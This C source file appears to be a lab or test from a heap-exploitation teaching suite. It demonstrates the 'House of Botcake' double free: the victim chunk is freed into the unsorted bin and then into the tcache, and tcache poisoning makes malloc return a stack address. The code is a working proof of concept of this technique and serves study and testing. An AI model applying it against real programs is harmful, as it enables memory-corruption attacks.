/*
 * house_of_botcake.c - a double free that the tcache's key does not see:
 * the chunk is freed once into the unsorted bin, merged there, and then again
 * into the tcache.
 *
 * From 2.29 free marks a chunk it puts in the tcache with a key, and a chunk
 * that carries it is looked for in its tcache bin: a plain double free is
 * caught ("free(): double free detected in tcache 2").  But a chunk freed
 * while its tcache bin is full goes to the arena instead, unmarked.  Here
 * victim is freed that way and merges with the free chunk before it, prev,
 * into one larger unsorted chunk.  One malloc makes room in the tcache bin,
 * and victim is freed again: no key, so the tcache takes it.  victim is now
 * inside the large free chunk and in the tcache.  A malloc from the large
 * chunk overlaps victim, and through it the program rewrites victim's tcache
 * link (tcache poisoning): two mallocs later, the target.
 *
 * Works on 2.26 ... 2.36 (before 2.29 there was no key to get round, and the
 * same steps work); before 2.26 there is no tcache.  From 2.32 the link is
 * written encoded.
 */
#include "tests/techniques/technique.h"

int main(void)
{
    technique_begin("house_of_botcake", "Free victim into the unsorted bin, where it merges, then again into the "
                                        "tcache: an overlapping malloc rewrites its tcache link.");
    if (!release_has_tcache())
        return technique_not_here("the tcache came with glibc 2.26");

    _Alignas(16) size_t stack_area[8] = {0};
    void *target = &stack_area[2];

    void *fill[TCACHE_FILL];
    tcache_prepare(fill, 0x100);
    char *prev = arenalloc_malloc(0x100);
    char *victim = arenalloc_malloc(0x100);
    arenalloc_malloc(0x10);
    say("prev = %p and victim = %p, chunks of 0x110, a guard after them; the target on the stack: %p.",
        (void *)prev, (void *)victim, target);
    tcache_fill(fill);

    arenalloc_free(victim);
    arenalloc_free(prev);
    say("free(victim), free(prev): the tcache bin is full, so both go to the arena and merge into one");
    say("unsorted chunk of 0x220 bytes at prev.");

    arenalloc_malloc(0x100);
    say("malloc(0x100): takes one chunk from the tcache bin, which has room for one again.");

    /* LAB(tech-house_of_botcake) BEGIN */
    arenalloc_free(victim);
    /* LAB(tech-house_of_botcake) END */
    say("free(victim) again: victim carries no tcache key (it was freed to the arena), so the tcache takes it.");

    char *overlap = arenalloc_malloc(0x120);
    say("overlap = malloc(0x120) = %p: carved from the merged chunk, it covers victim's first words.",
        (void *)overlap);
    *(uintptr_t *)(overlap + (victim - prev)) = protect_ptr(victim, target);
    say("Through overlap, victim's tcache link now names the target.");

    char *a = arenalloc_malloc(0x100);
    char *b = arenalloc_malloc(0x100);
    say("malloc(0x100) = %p (victim), malloc(0x100) = %p.", (void *)a, (void *)b);

    return technique_end(a == victim && b == target, "malloc returned the target on the stack");
}
